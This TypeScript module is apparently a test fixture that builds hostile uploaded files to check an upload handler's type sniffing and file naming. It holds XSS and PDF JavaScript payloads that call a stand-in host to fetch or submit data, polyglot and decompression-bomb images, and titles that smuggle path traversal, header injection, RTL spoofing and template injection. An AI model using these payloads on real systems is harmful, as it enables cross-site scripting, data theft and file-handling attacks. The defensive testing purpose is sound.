import { crc32, deflateSync } from "node:zlib";
import { pdfOf } from "./pages-pdf.ts";

// Files as somebody would send them who means harm. Where they lead is `elsewhere`.

export const elsewhere = "https://elsewhere.example";

/** A picture of 8 by 8 dots that says it has others. */
export function boastingPng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  // One bit a dot, of grey.
  header[8] = 1;
  const rows = deflateSync(Buffer.alloc(16));
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk("IHDR", header), chunk("IDAT", rows), chunk("IEND", Buffer.alloc(0))]);
}

function chunk(kind: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(kind, "latin1"), data]);
  const whole = Buffer.alloc(named.length + 8);
  whole.writeUInt32BE(data.length, 0);
  named.copy(whole, 4);
  whole.writeUInt32BE(crc32(named), named.length + 4);
  return whole;
}

/** The head of a JPEG that says it is so large, behind a segment that leads whoever looks for it past it. */
export function boastingJpeg(width: number, height: number): Buffer {
  const frame = Buffer.from(
    "ffd8 fffe0006 ffc0ffff 00ff 01 ffff ffc0 0011 08 0000 0000 03 012200 021101 031101 ffd9".replaceAll(" ", ""),
    "hex",
  );
  const at = frame.indexOf(Buffer.from("ffc00011", "hex"));
  frame.writeUInt16BE(height, at + 5);
  frame.writeUInt16BE(width, at + 7);
  return frame;
}

const script = `fetch("${elsewhere}/fetched");document.title="ran";alert("ran")`;
const html = `<!DOCTYPE html><title>A letter</title><base href="${elsewhere}/"><link rel="stylesheet" href="a.css"><img src="a.png" onerror='${script}'><iframe src="${elsewhere}/frame"></iframe><script>${script}</script><form action="${elsewhere}/form"><button>Sign in</button></form>`;
const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload='${script}'><script>${script}</script><image xlink:href="${elsewhere}/a.png" width="9" height="9"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${elsewhere}/frame"/></body></foreignObject></svg>`;

/** A report of one page that does something when it is opened, looked at or clicked, and holds a program. */
export function activePdf(): Buffer {
  const drawn = `0 0.369 0.722 rg 40 700 515 60 re f BT /F 24 Tf 60 600 Td (Consultation) Tj ET`;
  const asciiScript = `app.alert("ran"); app.launchURL("${elsewhere}/launched"); this.submitForm("${elsewhere}/sent");`;
  const action = `<</S/JavaScript/JS(${asciiScript.replaceAll(/[()]/g, String.raw`\$&`)})>>`;
  const uri = (kind: string): string => `<</S/URI/URI(${kind})>>`;
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction ${action}/AA<</WC ${action}/DP ${action}>>/AcroForm<</Fields[6 0 R]/XFA(<xdp/>)>>/Names<</JavaScript<</Names[(run)${action}]>>/EmbeddedFiles<</Names[(../../evil.exe)8 0 R]>>>>>>`,
    "<</Type/Pages/Count 1/Kids[3 0 R]>>",
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F 5 0 R>>>>/Contents 4 0 R/AA<</O ${action}>>/Annots[6 0 R 7 0 R 9 0 R]>>`,
    `<</Length ${drawn.length}>>stream\n${drawn}\nendstream`,
    "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    `<</Type/Annot/Subtype/Widget/FT/Tx/T(field)/Rect[0 0 595 842]/A ${action}/AA<</Fo ${action}/PV ${action}>>>>`,
    `<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A ${uri("javascript:alert(1)")}/AA<</PV ${uri(`${elsewhere}/seen`)}>>>>`,
    "<</Type/Filespec/F(../../evil.exe)/EF<</F 10 0 R>>>>",
    "<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/Launch/F(calc.exe)/Win<</F(calc.exe)>>>>>>",
    "<</Length 2>>stream\nMZ\nendstream",
  ];
  return pdfOf(objects);
}

interface HostileFile {
  /** As its sender calls it, and says that it is. */
  title: string;
  contentType: string;
  bytes: Buffer;
  /** What it is handed out as, whatever that is. */
  is: { type: string; name: string; shown: boolean };
}

const unknown = { type: "application/octet-stream", shown: false } as const;

/** Each is called what would do harm where a name is taken for a path, for a header's text, or for a mark of a page. */
export const hostileFiles: readonly HostileFile[] = [
  {
    title: "../../../../etc/passwd",
    contentType: "text/html",
    bytes: Buffer.from(html),
    is: { ...unknown, name: "bin" },
  },
  {
    title: `photo.png"; filename="evil.exe`,
    contentType: "image/svg+xml",
    bytes: Buffer.from(svg),
    is: { ...unknown, name: "bin" },
  },
  {
    title: "lines\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    contentType: "image/png",
    bytes: Buffer.from(html),
    is: { ...unknown, name: "bin" },
  },
  // By its first bytes a PDF, and a page to whoever believes what it says of itself.
  {
    title: "letter\u202Efdp.exe",
    contentType: "text/html",
    bytes: Buffer.concat([Buffer.from(`<!--%PDF-1.7 -->${html}<!--`), activePdf()]),
    is: { type: "application/pdf", name: "pdf", shown: true },
  },
  // A picture, and behind its end a page.
  {
    title: "W".repeat(300),
    contentType: "text/html; charset=utf-7",
    bytes: Buffer.concat([boastingPng(8, 8), Buffer.from(html)]),
    is: { type: "image/png", name: "png", shown: true },
  },
  {
    title: "{{7*1111111}}${7*1111111}%s%n",
    contentType: "image/png",
    bytes: boastingPng(50_000, 50_000),
    is: { type: "image/png", name: "png", shown: false },
  },
  {
    title: "20,000 by 20,000",
    contentType: "image/png",
    bytes: boastingPng(20_000, 20_000),
    is: { type: "image/png", name: "png", shown: false },
  },
  {
    title: "65,000 by 65,000",
    contentType: "image/jpeg",
    bytes: boastingJpeg(65_000, 65_000),
    is: { type: "image/jpeg", name: "jpg", shown: false },
  },
  {
    title: "con.png",
    contentType: "image/png",
    bytes: Buffer.concat([Buffer.from("GIF89a"), Buffer.from("ffffffff80000000", "hex"), Buffer.from(html)]),
    is: { ...unknown, name: "bin" },
  },
  {
    title: "a\u0085b\u200Bc\uFEFF",
    contentType: "image/jpeg",
    bytes: Buffer.concat([Buffer.from("RIFF\u0010\u0000\u0000\u0000WEBPVP8X", "latin1"), Buffer.from(html)]),
    is: { ...unknown, name: "bin" },
  },
  {
    title: "scan.tif",
    contentType: "image/png",
    bytes: Buffer.concat([Buffer.from("II*\u0000\u0008\u0000\u0000\u0000", "latin1"), Buffer.from(html)]),
    is: { type: "image/tiff", name: "tif", shown: false },
  },
  // Unpacked 4.5 petabytes, by its name: nothing here unpacks.
  {
    title: "42.zip/../../x",
    contentType: "application/zip",
    bytes: Buffer.from("PK\u0003\u0004\u0014\u0000", "latin1"),
    is: { ...unknown, name: "bin" },
  },
  {
    title: "invoice.docm",
    contentType: 'application/msword"><script>alert(1)</script>',
    bytes: Buffer.from(html),
    is: { ...unknown, name: "bin" },
  },
];
